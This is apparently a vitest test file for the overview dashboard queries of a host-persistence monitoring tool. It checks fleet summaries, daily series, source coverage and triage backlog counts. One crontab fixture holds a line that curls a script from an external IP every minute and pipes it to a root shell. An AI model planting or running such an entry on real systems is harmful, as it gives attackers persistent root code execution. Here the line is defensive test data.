import { beforeAll, describe, expect, it } from 'vitest';
import { useOwnDatabase } from '@/lib/testing/own-database';
import { ingestBytes } from '@/lib/ingest/run-upload';
import { db } from '@/lib/db/client';
import { getCoverage, getFleetSummary, getOverviewSeries, getTriageBacklog } from './overview';

const enc = (s: string) => new TextEncoder().encode(s);
const host = `ov-${Date.now()}`;

useOwnDatabase('overview');

beforeAll(async () => {
  await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-01T06:00:00Z') });
  await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n* * * * * root curl http://198.51.100.7/p | sh\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-02T06:00:00Z') });
});

describe('overview', () => {
  it('counts relative to the fleet latest collection', async () => {
    const s = await getFleetSummary();
    expect(s.fleetNow).toBe('2030-01-02T06:00:00.000Z');
    expect(s.newEntries7d).toBeGreaterThanOrEqual(1);
    expect(s.hosts).toBeGreaterThanOrEqual(1);
  });

  it('draws 30 days ending at the latest collection, with the new entry on its day', async () => {
    const series = await getOverviewSeries();
    expect(series.newEntriesPerDay).toHaveLength(30);
    expect(series.newEntriesPerDay.at(-1)).toMatchObject({ label: '01-02' });
    expect(series.newEntriesPerDay.at(-1)!.value).toBeGreaterThanOrEqual(1);
    expect(series.prevalence.map((b) => b.label)).toEqual(['1 host', '2–5', '6–20', '21–100', '101–1000', '> 1000']);
  });

  it('reports each source with fresh, stale and old hosts, and the hosts of its OS family that never sent it', async () => {
    const timer = '[Unit]\nDescription=x\n[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n';
    await ingestBytes(enc(timer), 'backup.timer', { host: `${host}-units`, collectedAt: new Date('2030-01-02T06:00:00Z') });
    const coverage = await getCoverage();
    expect(coverage.find((r) => r.source === 'cron')).toEqual({ source: 'cron', fresh: 1, stale: 0, old: 0, missing: 1 });
    expect(coverage.find((r) => r.source === 'systemd')).toEqual({ source: 'systemd', fresh: 1, stale: 0, old: 0, missing: 1 });
  });

  it('counts the triage backlog by state, with the overdue and unassigned open items', async () => {
    const entries = await db().entry.findMany({ select: { id: true }, take: 3 });
    const past = new Date(Date.now() - 3_600_000);
    await db().triageItem.createMany({
      data: [
        { entryId: entries[0]!.id, state: 'new', severity: 'high', dueAt: past },
        { entryId: entries[1]!.id, state: 'closed', severity: 'low', dueAt: past },
        { entryId: entries[2]!.id, state: 'in_review', severity: 'low' },
      ],
    });
    const backlog = await getTriageBacklog();
    expect(backlog.byState.sort((a, b) => a.state.localeCompare(b.state))).toEqual([
      { state: 'closed', count: 1 },
      { state: 'in_review', count: 1 },
      { state: 'new', count: 1 },
    ]);
    // The closed item is past its due date too, but it is not backlog.
    expect(backlog).toMatchObject({ overdue: 1, unassigned: 2 });
  });
});
